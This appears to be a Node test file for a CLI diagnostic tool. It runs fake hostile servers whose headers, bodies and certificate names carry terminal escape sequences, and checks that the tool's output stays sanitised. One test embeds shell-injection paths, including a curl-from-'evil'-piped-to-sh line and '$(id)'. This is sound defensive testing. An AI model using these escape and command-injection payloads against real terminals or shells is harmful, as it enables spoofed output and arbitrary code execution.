// npx landfall doctor on a pipe and on a terminal, against servers that put what a terminal obeys into everything that it reads of
// them: what comes out is the doctor's own grammar, to the byte.
import assert from 'node:assert/strict'
import { createServer } from 'node:net'
import { test } from 'node:test'
import { createServer as createTlsServer } from 'node:tls'
import { clean } from '../../dist/terminal/clean.js'
import { diagnose, makeCertificate } from './support/doctor.mjs'
import { errorPage, POLICY } from './support/doctor-app.mjs'
import { COOKIE, NO_STORE, raw, startRaw } from './support/doctor-raw.mjs'
import { HOSTILE } from './support/hostile-text.mjs'
import { assertSpeaksPlainly } from './support/terminal.mjs'

/** Long texts have a test of their own; here they would be too much for one header. */
const { long: _, ...SHORT } = HOSTILE
const ALL = Object.values(SHORT).join('|')
/** Bytes on the wire, one for each character. @param {string} text */
const utf8 = (text) => Buffer.from(text, 'utf8').toString('latin1')
/** What HTTP lets through in a header: no C0, and C1 as bytes and as UTF-8. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what HTTP forbids
const IN_HEADER = `${utf8(ALL.replace(/[\0-\x1f\x7f]/g, ''))}\x85\x9b31m\x9d0;owned\x9c`
/** Behind percent signs everything is let through. */
const IN_QUERY = encodeURIComponent(ALL.toWellFormed())
const IN_JSON = JSON.stringify(ALL)
const NOISE = [`X-${'a'}: ${IN_HEADER}`, `Date: ${IN_HEADER}`]
const STATUS = `303 ${IN_HEADER}`

/** A hostile sign-in: where it leads, its cookies, its policy for caches. @param {string} parameter */
const signIn = (parameter) => (origin) =>
  raw(STATUS, [
    `Location: ${origin}/authorize?state=${IN_QUERY}&scope=${IN_QUERY}&${parameter}=${IN_QUERY}`,
    `Set-Cookie: ${IN_HEADER}`,
    `Set-Cookie: __Host-landfall-1${IN_HEADER}; Domain=${IN_HEADER}; ${IN_HEADER}`,
    `Cache-Control: ${IN_HEADER}`,
    ...NOISE,
  ])
const to = (location) => () => raw(STATUS, [`Location: ${location}`, `Cache-Control: ${IN_HEADER}`, ...NOISE])
const says =
  (status, body, headers = []) =>
  () =>
    raw(`${status} ${IN_HEADER}`, [...headers, ...NOISE], body)
/** What HTTP does not let through is no answer. */
const forbidden = () => raw('303 See Other', [`Location: /\x1b[31m`, `Set-Cookie: a=\x07`, NO_STORE])

/** Apps by what is hostile in them. */
const APPS = {
  'the provider that it names': { 'sign-in': signIn('redirect_uri'), callback: to(IN_HEADER) },
  'the project that it names': {
    'sign-in': signIn('redirect_to'),
    callback: says(200, utf8(`response_missing: ${ALL}`)),
  },
  'where its sign-in leads': {
    'sign-in': to(`http://[${IN_HEADER}`),
    callback: to(`/auth/auth-code-error?error=${IN_HEADER}`),
  },
  'what its sign-in says': { 'sign-in': says(404, utf8(ALL)), callback: says(999, utf8(ALL)) },
  'headers that are none': { 'sign-in': forbidden, callback: forbidden },
  'a status line that is none': { 'sign-in': () => `HTTP/1.1 \x1b[31m ${ALL}\r\n\r\n` },
  'where its error page is': {
    callback: to('/auth/auth-code-error?error=response_missing'),
    refused: to(IN_HEADER),
    prefetch: says(200, ALL),
  },
  'its error page': {
    'sign-in': signIn('redirect_uri'),
    page: says(
      418,
      errorPage({ heading: utf8(ALL.replaceAll('<', '')), style: utf8(ALL), main: utf8(ALL) }),
      [`Content-Security-Policy: ${POLICY}; ${IN_HEADER}`, `Content-Security-Policy: ${IN_HEADER}`],
    ),
  },
  'the settings that it misses': {
    'sign-in': says(
      500,
      `<code data-option>${utf8(ALL)}</code><code data-option>providers.main.clientId</code>` +
        `<code data-variable>${utf8(ALL)}</code>`,
    ),
  },
  'what its provider answers': {
    'sign-in': (origin) =>
      raw('303 See Other', [
        `Location: ${origin}/authorize?redirect_uri=${origin}/auth/callback/${IN_QUERY}`,
        COOKIE,
        NO_STORE,
      ]),
    authorize: to(IN_HEADER),
  },
}

/** What of them is told, so that the rest of the test is about something. */
const QUOTED = [
  'the provider that it names',
  'the project that it names',
  'where its sign-in leads',
  'where its error page is',
  'its error page',
]

for (const [name, answers] of Object.entries(APPS))
  test(`an app, hostile in ${name}`, async (t) => {
    const { origin } = await startRaw(t, answers)
    const said = await assertSpeaksPlainly([origin], name)
    if (QUOTED.includes(name)) assert.match(said, /\\u\{(?:1b|9b)\}\[?31m/)
  })

/** Projects by what is hostile in them. */
const PROJECTS = {
  'its settings': {
    settings: says(200, utf8(`{"external":{"bitbucket":${IN_JSON},${IN_JSON}:${IN_JSON}},"msg":${IN_JSON}}`)),
  },
  'its refusal': { settings: says(401, utf8(`{"msg":${IN_JSON},"error_code":${IN_JSON}}`)) },
  'its failure': { settings: says(503, utf8(ALL)) },
  'a provider that it does not know': {
    settings: says(200, '{}'),
    begun: says(400, utf8(`Unsupported provider: ${ALL}`)),
  },
  'where it begins': {
    begun: (origin) => raw(`302 ${IN_HEADER}`, [`Location: ${origin}/?state=${IN_QUERY}&${IN_QUERY}`]),
    returned: to(IN_HEADER),
  },
  'where it comes back to': { returned: to(`http://127.0.0.1:1/${IN_HEADER}`) },
}

for (const [name, answers] of Object.entries(PROJECTS))
  test(`a project, hostile in ${name}`, async (t) => {
    const app = await startRaw(t, { page: says(404, ALL) })
    const project = await startRaw(t, answers)
    await assertSpeaksPlainly([app.origin, '--supabase-url', project.origin, '--key', 'k'], name)
  })

test('no server puts words into a command that people copy', async (t) => {
  for (const path of [
    '/auth/callback/x;curl$IFS-s$IFS//evil|sh',
    '/auth/callback/$(id)',
    '/auth/callback/`id`',
    "/auth/callback/'x'",
    `/${'a'.repeat(300)}`,
  ]) {
    const told = (origin) => encodeURIComponent(origin + path)
    const { origin } = await startRaw(t, {
      'sign-in': (self) =>
        raw('303 See Other', [
          `Location: ${self}/authorize?state=s&redirect_uri=${told(self)}`,
          COOKIE,
          NO_STORE,
        ]),
    })
    const { byId } = await diagnose([origin])
    assert.equal(byId.callback.fix, 'Change paths.callback or providers.bitbucket.callback.', path)
  }
})

test('nobody answers: no such name, nothing there, no TLS, a certificate with a hostile name', async (t) => {
  const names = [
    `/CN=${clean('x')}\x1b[31mowned\x07/O=\u202eevil`,
    'subjectAltName=DNS:evil.example,URI:http://\x9b31m',
  ]
  const { tls, env } = await makeCertificate(t, names)
  const server = createTlsServer(tls).on('tlsClientError', () => {})
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.after(() => server.close())
  const garbage = createServer((socket) => socket.on('error', () => {}).end(ALL))
  await new Promise((resolve) => garbage.listen(0, '127.0.0.1', resolve))
  t.after(() => garbage.close())
  for (const [address, problem, how] of [
    ['http://nobody.invalid', /ENOTFOUND|EAI_AGAIN/],
    ['http://127.0.0.1:1', /ECONNREFUSED/],
    [`https://127.0.0.1:${garbage.address().port}`, /ERR_SSL|EPROTO|ECONNRESET|disconnected|WRONG_VERSION/],
    [`https://127.0.0.1:${server.address().port}`, /SELF_SIGNED/],
    [`https://127.0.0.1:${server.address().port}`, /ALTNAME_INVALID/, env],
  ])
    assert.match(await assertSpeaksPlainly([address], address, how), problem, address)
})
